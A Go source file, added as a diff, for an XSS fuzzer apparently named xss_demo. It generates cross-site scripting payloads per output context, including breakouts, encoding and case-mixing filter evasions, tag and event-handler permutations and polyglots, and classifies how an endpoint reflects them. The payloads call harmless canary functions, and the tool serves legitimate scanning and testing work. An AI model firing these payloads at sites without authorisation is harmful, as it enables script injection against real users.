@@ -0,0 +1,297 @@
+// Package fuzz generates XSS payloads for an output context and classifies
+// how an endpoint reflects them.
+//
+// Every payload calls a unique canary function instead of alert, so the
+// verify package can tell whether that particular payload would run. The
+// generator starts from a few breakouts per context and derives variants
+// from them: case changes, HTML entity, percent and JavaScript escape
+// encodings, tag and event handler permutations, and polyglots that work
+// in several contexts at once.
+package fuzz
+
+import (
+	"fmt"
+	"net/url"
+	"sort"
+	"strings"
+	"unicode"
+
+	"xss_demo/verify"
+)
+
+// placeholder marks where the canary call goes in templates
+const placeholder = "CANARY"
+
+// context is an output context hint: the breakouts that escape it and the
+// prefix that leaves it so new markup can start
+type context struct {
+	Breakouts []string
+	Escape    string // closes the context before an injected tag
+}
+
+var contexts = map[string]context{
+	"html": {
+		Breakouts: []string{"<script>CANARY()</script>", "<img src=x onerror=CANARY()>", "<svg onload=CANARY()>"},
+	},
+	"attr": {
+		Breakouts: []string{`"><img src=x onerror=CANARY()>`, `" autofocus onfocus=CANARY() x="`, `"><script>CANARY()</script>`},
+		Escape:    `">`,
+	},
+	"attr-single": {
+		Breakouts: []string{`'><img src=x onerror=CANARY()>`, `' autofocus onfocus=CANARY() x='`},
+		Escape:    `'>`,
+	},
+	"attr-unquoted": {
+		Breakouts: []string{"x autofocus onfocus=CANARY()", "x><img src=x onerror=CANARY()>"},
+		Escape:    "x>",
+	},
+	"script-string": {
+		Breakouts: []string{"';CANARY();//", `";CANARY();//`, `\';CANARY();//`, "</script><script>CANARY()</script>"},
+		Escape:    "</script>",
+	},
+	"template-literal": {
+		Breakouts: []string{"${CANARY()}", "`;CANARY();//"},
+		Escape:    "</script>",
+	},
+	"url": {
+		Breakouts: []string{"javascript:CANARY()", " javascript:CANARY()", "javascript://%0aCANARY()"},
+		Escape:    `">`,
+	},
+	"css": {
+		Breakouts: []string{`red" onmouseover="CANARY()`, `red"><img src=x onerror=CANARY()>`},
+		Escape:    `">`,
+	},
+	"comment": {
+		Breakouts: []string{"--><img src=x onerror=CANARY()><!--", "--!><img src=x onerror=CANARY()>"},
+		Escape:    "-->",
+	},
+}
+
+// Contexts returns the names of the supported context hints
+func Contexts() []string {
+	names := make([]string, 0, len(contexts))
+	for name := range contexts {
+		names = append(names, name)
+	}
+	sort.Strings(names)
+	return names
+}
+
+// tagEvents are element and event handler pairs that fire without user
+// interaction, or on the first mouse movement. Elements that have content
+// are closed, so that a stored iframe does not turn everything stored
+// after it into text.
+var tagEvents = []struct {
+	Tag, Attrs, Event string
+	Void              bool
+}{
+	{"img", "src=x", "onerror", true},
+	{"svg", "", "onload", false},
+	{"body", "", "onload", false},
+	{"iframe", "", "onload", false},
+	{"details", "open", "ontoggle", false},
+	{"input", "autofocus", "onfocus", true},
+	{"select", "autofocus", "onfocus", false},
+	{"video", "src=x", "onerror", false},
+	{"audio", "src=x", "onerror", false},
+	{"marquee", "", "onstart", false},
+	{"a", "href=#", "onmouseover", false},
+}
+
+// polyglots are payloads that break out of several contexts at once
+var polyglots = []string{
+	"jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=CANARY() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=CANARY()//>\\x3e",
+	`"'--></style></script><svg onload=CANARY()>`,
+	"'\"`><img src=x onerror=CANARY()>${CANARY()}",
+}
+
+// Payload is one generated input
+type Payload struct {
+	Value     string
+	Canary    string // function the payload calls
+	Technique string
+}
+
+// Generate returns the payloads for a context hint. Canaries are prefix
+// followed by the index of the payload; use a new prefix for each run so
+// that stored payloads of earlier runs are not mistaken for new ones.
+func Generate(hint, prefix string) ([]Payload, error) {
+	ctx, ok := contexts[hint]
+	if !ok {
+		return nil, fmt.Errorf("unknown context %q, expected one of %s", hint, strings.Join(Contexts(), ", "))
+	}
+
+	var templates []Payload
+	for _, b := range ctx.Breakouts {
+		templates = append(templates,
+			Payload{Value: b, Technique: "breakout"},
+			Payload{Value: mixCase(b), Technique: "case"},
+			Payload{Value: entityEncode(b), Technique: "html-entities"},
+			Payload{Value: url.QueryEscape(b), Technique: "percent-encoded"},
+			Payload{Value: jsEscape(b), Technique: "js-escapes"},
+		)
+	}
+	for _, te := range tagEvents {
+		tag := "<" + te.Tag
+		if te.Attrs != "" {
+			tag += " " + te.Attrs
+		}
+		tag += " " + te.Event + "=CANARY()>"
+		if !te.Void {
+			tag += "</" + te.Tag + ">"
+		}
+		templates = append(templates, Payload{Value: ctx.Escape + tag, Technique: "tag-event " + te.Tag + "/" + te.Event})
+		templates = append(templates, Payload{Value: ctx.Escape + mixCase(strings.Replace(tag, " ", "/", 1)), Technique: "tag-event slash " + te.Tag + "/" + te.Event})
+	}
+	for _, p := range polyglots {
+		templates = append(templates, Payload{Value: p, Technique: "polyglot"})
+	}
+
+	payloads := make([]Payload, 0, len(templates))
+	seen := map[string]bool{}
+	for _, t := range templates {
+		if seen[t.Value] {
+			continue
+		}
+		seen[t.Value] = true
+		canary := fmt.Sprintf("%s%d", prefix, len(payloads))
+		payloads = append(payloads, Payload{
+			Value:     strings.ReplaceAll(t.Value, placeholder, canary),
+			Canary:    canary,
+			Technique: t.Technique,
+		})
+	}
+	return payloads, nil
+}
+
+// mixCase alternates the case of letters outside the canary, which HTML
+// tag and attribute names and URL schemes ignore
+func mixCase(s string) string {
+	parts := strings.Split(s, placeholder)
+	upper := false
+	for i, part := range parts {
+		runes := []rune(part)
+		for j, r := range runes {
+			if unicode.IsLetter(r) {
+				if upper {
+					runes[j] = unicode.ToUpper(r)
+				} else {
+					runes[j] = unicode.ToLower(r)
+				}
+				upper = !upper
+			}
+		}
+		parts[i] = string(runes)
+	}
+	return strings.Join(parts, placeholder)
+}
+
+// entityEncode replaces markup characters with numeric character
+// references, which only help inside attribute values that are decoded
+// before use, or on servers that decode input
+func entityEncode(s string) string {
+	var b strings.Builder
+	for _, r := range s {
+		if strings.ContainsRune(`<>"'():=`, r) {
+			fmt.Fprintf(&b, "&#x%x;", r)
+		} else {
+			b.WriteRune(r)
+		}
+	}
+	return b.String()
+}
+
+// jsEscape replaces markup characters with JavaScript unicode escapes,
+// which survive filters that only look for the literal characters
+func jsEscape(s string) string {
+	var b strings.Builder
+	for _, r := range s {
+		if strings.ContainsRune(`<>"'`, r) {
+			fmt.Fprintf(&b, `\u%04x`, r)
+		} else {
+			b.WriteRune(r)
+		}
+	}
+	return b.String()
+}
+
+// Reflection classifies what an endpoint did with a payload
+type Reflection string
+
+const (
+	Executes     Reflection = "executes"      // lands in an executable context
+	Verbatim     Reflection = "verbatim"      // reflected unchanged but inert
+	Modified     Reflection = "modified"      // reflected escaped or filtered
+	NotReflected Reflection = "not-reflected" // the canary is not in the page
+)
+
+// Result is the outcome of one payload
+type Result struct {
+	Payload
+	Reflection Reflection
+	Findings   []verify.Finding
+}
+
+// Classify decides how body reflects p
+func Classify(p Payload, body string) Result {
+	r := Result{Payload: p, Findings: verify.Analyze(body, p.Canary)}
+	switch {
+	case len(r.Findings) > 0:
+		r.Reflection = Executes
+	case strings.Contains(body, p.Value):
+		r.Reflection = Verbatim
+	case strings.Contains(body, p.Canary):
+		r.Reflection = Modified
+	default:
+		r.Reflection = NotReflected
+	}
+	return r
+}
+
+// Chars are the characters whose treatment the character probe reports
+var Chars = []string{"<", ">", `"`, "'", "`", "&", "/", `\`, "(", ")", "=", ";", ":", "{", "}", "$", "#", "%", " ", "\n"}
+
+// CharProbe wraps character i of Chars between two markers so its
+// reflection can be found
+func CharProbe(prefix string, i int) (value, start, end string) {
+	ch := Chars[i]
+	start = fmt.Sprintf("%sc%da", prefix, i)
+	end = fmt.Sprintf("%sc%dz", prefix, i)
+	return start + ch + end, start, end
+}
+
+// CharResult is how one character came back
+type CharResult struct {
+	Char    string
+	Forms   []string // each distinct way it appears in the page
+	Survive bool     // at least one reflection is the raw character
+}
+
+// ClassifyChar finds every reflection of a character probe in body
+func ClassifyChar(ch, start, end, body string) CharResult {
+	r := CharResult{Char: ch}
+	seen := map[string]bool{}
+	rest := body
+	for {
+		i := strings.Index(rest, start)
+		if i < 0 {
+			break
+		}
+		rest = rest[i+len(start):]
+		j := strings.Index(rest, end)
+		if j < 0 {
+			break
+		}
+		form := rest[:j]
+		rest = rest[j+len(end):]
+		if seen[form] {
+			continue
+		}
+		seen[form] = true
+		r.Forms = append(r.Forms, form)
+		if form == ch {
+			r.Survive = true
+		}
+	}
+	return r
+}